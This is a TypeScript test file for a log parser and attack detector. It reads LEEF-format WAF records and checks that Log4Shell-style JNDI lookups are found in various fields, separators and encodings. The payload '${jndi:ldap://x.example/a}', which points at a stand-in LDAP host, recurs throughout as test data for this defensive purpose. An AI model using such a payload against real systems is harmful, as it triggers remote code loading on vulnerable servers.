import { expect, test } from 'vitest'
import { huntedAround, huntIn } from '../../../test/kit/hunting.ts'
import { instant } from '../../core/index.ts'
import { FormatChooser } from './format-chooser.ts'

const prefix = 'LEEF:1.0|Acme|WAF|1|Injection|'
const attack = '${jndi:ldap://x.example/a}'

function chosen(record: string) {
  return new FormatChooser().read(record, { around: huntedAround, columns: null })
}

test.each([
  ['an agent with blanks', `${prefix}userAgent=${attack} src=192.0.2.1\tsrc=203.0.113.9`, '203.0.113.9'],
  ['an agent with tabs behind it', `${prefix}src=203.0.113.9\tuserAgent=${attack}\tsrc=192.0.2.1`, '203.0.113.9'],
  ['an agent with tabs before it', `${prefix}userAgent=${attack}\tsrc=192.0.2.1\tsrc=203.0.113.9`, null],
  ['a request with bars', `${prefix}src=203.0.113.9\turl=/|^|src=192.0.2.1 ${attack}`, '203.0.113.9'],
  ['a record in a message', `${prefix}src=203.0.113.9\tmsg=${attack} LEEF:1.0|a|b|c|d|src=192.0.2.1`, '203.0.113.9'],
  ['tabs, where others separate', `LEEF:2.0|a|b|c|d|^|url=${attack}\tsrc=192.0.2.1^src=203.0.113.9`, '203.0.113.9'],
  [
    'what rsyslog makes of tabs, where there are tabs',
    `${prefix}url=${attack}#011src=192.0.2.1\tsrc=203.0.113.9`,
    '203.0.113.9',
  ],
  ['carets, where tabs separate', `LEEF:2.0|a|b|c|d||url=${attack}^src=192.0.2.1\tsrc=203.0.113.9`, '203.0.113.9'],
])('a source is not told from %s', (_where, record, from) => {
  const { format, record: read } = chosen(record)

  expect(format).toBe('leef')
  expect(read.from).toBe(from)
  expect(huntIn(record).findings).toMatchObject([{ from, lookup: { raw: attack } }])
})

test.each([
  ['^', '^'],
  ['x7C', '|'],
  ['0x2c', ','],
  ['x09', '\t'],
  ['', '\t'],
])('a separator is named as %j', (named, separator) => {
  const record = `LEEF:2.0|a|b|c|d|${named}|${['src=203.0.113.9', `url=/${attack}`, 'userAgent=curl/7'].join(separator)}`

  expect(chosen(record).record).toMatchObject({ from: '203.0.113.9', request: `/${attack}`, userAgent: 'curl/7' })
  expect(huntIn(record).findings).toMatchObject([{ field: 'url', lookup: { raw: attack } }])
})

test('tabs that rsyslog escaped separate, too', () => {
  const { record } = chosen(`Dec 12 04:25:41 waf1 ${prefix}src=203.0.113.9#011url=/a#011userAgent=curl/7`)

  expect([record.from, record.request, record.userAgent]).toEqual(['203.0.113.9', '/a', 'curl/7'])
})

test.each([
  ['its own, by its pattern', 'devTime=12/12/2021 04:25:40\tdevTimeFormat=dd/MM/yyyy HH:mm:ss', '2021-12-12T04:25:40Z'],
  [
    'its own, whatever pattern a client adds',
    `devTime=Dec 12 2021 04:25:40\turl=${attack}\tdevTimeFormat=MMM yy dd HH:mm:ss`,
    '2021-12-12T04:25:40Z',
  ],
  ['of the header, where a client adds one', `url=${attack}\tdevTime=Jan 01 2020 00:00:00`, '2021-12-12T04:25:41Z'],
  ['of the header, where its own is in no pattern', 'devTime=today', '2021-12-12T04:25:41Z'],
])('the time is %s', (_which, attributes, when) => {
  const { record } = chosen(`Dec 12 04:25:41 waf1 ${prefix}${attributes}`)

  expect(record.when).toBe(instant(when))
})

test.each([
  ['the event', `LEEF:1.0|Acme|WAF|1|${attack}|src=203.0.113.9`, 'event'],
  ['attributes without names', `${prefix}${attack}`, 'attributes'],
  ['percent-encoding', `${prefix}src=203.0.113.9\turl=/%24%7Bjndi:ldap://x.example/a%7D`, 'url'],
  ['a separator in its midst', `LEEF:2.0|a|b|c|d|^|src=203.0.113.9^url=/\${jndi:ldap://x.example/a^b}`, null],
])('an attack is found in %s', (_where, record, field) => {
  expect(huntIn(record).findings).toMatchObject([{ field, verdict: 'fires', lookup: { host: 'x.example' } }])
})

test('hostile records cost linear time', () => {
  for (const text of [
    `${prefix}${'a=\t'.repeat(300_000)}`,
    `LEEF:1.0${'|'.repeat(1_000_000)}`,
    `${prefix}${' '.repeat(1_000_000)}`,
  ]) {
    const before = performance.now()
    chosen(text)
    expect(performance.now() - before).toBeLessThan(2_000)
  }
})
